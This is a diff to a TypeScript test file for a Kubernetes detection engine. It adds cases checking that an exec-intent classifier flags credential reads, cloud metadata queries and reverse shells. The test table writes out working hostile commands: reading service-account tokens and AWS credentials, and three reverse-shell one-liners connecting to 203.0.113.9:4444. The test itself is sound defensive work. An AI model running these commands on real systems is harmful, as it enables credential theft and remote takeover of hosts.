@@ -11,6 +11,7 @@ import { join } from 'node:path';
 import { Detector, type Suppression } from '../../src/detect/engine.js';
 import { TrustPolicy } from '../../src/detect/trust.js';
 import { csrSubject } from '../../src/detect/csr.js';
+import { execIntent } from '../../src/detect/exec-intent.js';
 import { detectionRules, findDetectionRule } from '../../src/detect/rules/index.js';
 import { DEFAULT_DETECTION_SETTINGS, type DetectionSettings, type ExampleCase } from '../../src/detect/rule.js';
 import { auditEvent, busybox, controllerSA, CONTROLLER_MANAGER, createDeployment, DEV, KUBELET, ownedPod, type ExampleUser } from '../../src/detect/rules/examples.js';
@@ -148,5 +149,25 @@ describe('KM-DT-041 and detect.internalNetworks on the command line', () => {
     assert.equal(r.status, 2);
     assert.match(r.stderr, /bad\.yaml: detect\.internalNetworks: not an IP address or CIDR: "10\.0\.0\.300\/8"/);
     rmSync(dir, { recursive: true, force: true });
+  });
+});
+
+describe('exec intent (KM-DT-001 critical)', () => {
+  test('credentials, the metadata service and reverse shells are read from the words; ordinary commands are not', () => {
+    const cases: [string[], string | undefined][] = [
+      [['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'], 'credentials'],
+      [['sh', '-c', 'cat /root/.aws/credentials'], 'credentials'],
+      [['curl', 'http://169.254.169.254/latest/meta-data/'], 'cloud metadata'],
+      [['wget', '-qO-', 'http://metadata.google.internal/computeMetadata/v1/'], 'cloud metadata'],
+      [['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'], 'reverse shell'],
+      [['sh', '-c', 'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f'], 'reverse shell'],
+      [['nc', '-e', '/bin/sh', '203.0.113.9', '4444'], 'reverse shell'],
+      [['id'], undefined],
+      [['cat', '/etc/hostname'], undefined],
+      [['nc', '-zv', 'db', '5432'], undefined],
+      [['ls', '/var/run'], undefined],
+      [[], undefined],
+    ];
+    for (const [argv, kind] of cases) assert.equal(execIntent(argv)?.kind, kind, argv.join(' '));
   });
 });
